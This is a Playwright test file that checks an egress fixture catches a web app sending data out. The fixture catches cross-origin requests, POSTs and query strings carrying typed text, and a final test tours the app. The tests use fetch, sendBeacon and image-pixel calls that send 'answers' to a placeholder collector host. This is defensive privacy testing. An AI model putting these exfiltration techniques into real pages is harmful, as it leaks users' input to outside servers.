import { expect, test } from "./fixtures";

// Proof that the egress fixture bites: each of these pages tries to send something out. The
// fixture fails any test whose `offences` list is not empty when it ends, so each test checks the
// offence was recorded, then empties the list so that the expected offence does not fail it.
const ATTEMPTS = {
  fetch: (url: string) => fetch(url, { mode: "no-cors" }).catch(() => undefined),
  beacon: (url: string) => navigator.sendBeacon(url, "answers"),
  image: (url: string) =>
    new Promise((resolve) => {
      const img = new Image();
      img.onload = img.onerror = resolve;
      img.src = url;
    }),
};

for (const [kind, attempt] of Object.entries(ATTEMPTS)) {
  test(`a page that sends a ${kind} to another origin fails the egress fixture`, async ({ page, egress }) => {
    await page.goto("/en/");
    const url = `http://collector.example.invalid/${kind}`;
    const seen = page.context().waitForEvent("request", (r) => r.url() === url);
    await page.evaluate(`(${attempt.toString()})(${JSON.stringify(url)})`);
    await seen;
    expect(egress.offences).toEqual([
      expect.stringMatching(new RegExp(`^foreign origin: (GET|POST) ${url}$`)),
    ]);
    egress.offences.length = 0;
  });
}

test("a POST to the app's own origin fails the egress fixture", async ({ page, egress }) => {
  await page.goto("/en/");
  await page.evaluate(() => fetch("/en/", { method: "POST", body: "answers" }).catch(() => undefined));
  expect(egress.offences).toEqual([expect.stringMatching(/^not a GET: POST http:\/\/localhost:\d+\/en\/$/)]);
  egress.offences.length = 0;
});

test("a GET to the app's own origin with typed text in its query fails the egress fixture", async ({
  page,
  egress,
}) => {
  await page.goto("/en/");
  await page.evaluate(() => fetch("/en/history/?q=railway%20signals").catch(() => undefined));
  expect(egress.offences).toEqual([
    expect.stringMatching(
      /^data in the query \(q\): http:\/\/localhost:\d+\/en\/history\/\?q=railway%20signals$/,
    ),
  ]);
  egress.offences.length = 0;
});

test("a whole tour of the app makes only GET requests to its own origin", async ({ page, egress }) => {
  await page.goto("/en/");
  await page.getByRole("link", { name: "Privacy", exact: true }).click();
  await expect(page.getByRole("heading", { level: 1 })).toContainText("Privacy");
  await page.getByTestId("language-switch").click();
  await expect(page).toHaveURL(/\/zh\/privacy\/$/);
  await page.getByRole("link", { name: "历史记录", exact: true }).click();
  await expect(page).toHaveURL(/\/zh\/history\/$/);
  expect(egress.requests.length).toBeGreaterThan(3);
  expect(egress.offences).toEqual([]);
});
